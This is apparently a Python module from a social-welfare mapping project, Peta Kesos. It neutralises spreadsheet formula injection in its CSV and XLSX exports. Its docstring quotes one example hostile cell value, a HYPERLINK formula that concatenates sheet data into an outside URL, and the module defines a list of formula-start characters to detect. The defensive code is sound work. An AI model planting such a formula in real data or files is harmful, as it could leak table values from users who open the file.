"""Exports must not attack their readers: no cell of a CSV or XLSX we write can become a live formula.

A source label or local category name such as `=HYPERLINK("http://…"&Data!D6, "klik")` would otherwise run when
the file is opened in a spreadsheet and could send table values out. Following OWASP's advice on CSV injection, a
text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe in CSV; real
numbers (also negative ones, and numbers kept as text such as `-12,5`) are left as they are. In XLSX every text
cell is stored as text (`data_type = "s"`), which a spreadsheet never evaluates, so the text itself is unchanged.
"""

from __future__ import annotations

import io
import re

import pandas as pd

from petakesos import i18n
from petakesos.numbers import CSV_DECIMAL, CSV_SEPARATOR

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d[\d.,]*|[.,]\d+)([eE][+-]?\d+)?$")


def neutralise(value: object) -> object:
    """A CSV cell that cannot start a formula: text starting with = + - @ TAB CR gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names are neutralised (numbers untouched)."""
    out = frame.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) and not pd.api.types.is_bool_dtype(out[col]):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame, *, lang: str = i18n.DEFAULT_LANGUAGE, demo: bool = False,
              encoding: str = "utf-8-sig") -> bytes:
    """CSV of `frame` for people who open it in a spreadsheet (the one way Peta Kesos writes a CSV for people):
    every text cell neutralised; a byte-order mark so that Excel reads UTF-8; the DATA CONTOH line above the table
    when `demo`; in Bahasa Indonesia the separators of Excel set to Indonesian (`;` between fields, `,` as the
    decimal mark; petakesos.numbers), in English `,` and `.`."""
    T = i18n.texts(lang)
    sep, decimal = (CSV_SEPARATOR, CSV_DECIMAL) if T.lang == "id" else (",", ".")
    buf = io.StringIO()
    if demo:
        pd.DataFrame([[T.DEMO_CSV_LINE]]).to_csv(buf, sep=sep, header=False, index=False, lineterminator="\r\n")
    plain = safe_frame(frame)
    plain.attrs = {}
    plain.to_csv(buf, sep=sep, decimal=decimal, index=False, lineterminator="\r\n")
    return buf.getvalue().encode(encoding)


def text_cells_as_text(workbook) -> None:
    """Store every text cell of an openpyxl workbook as text, so `=…` is shown, never evaluated."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "s":
                    cell.data_type = "s"
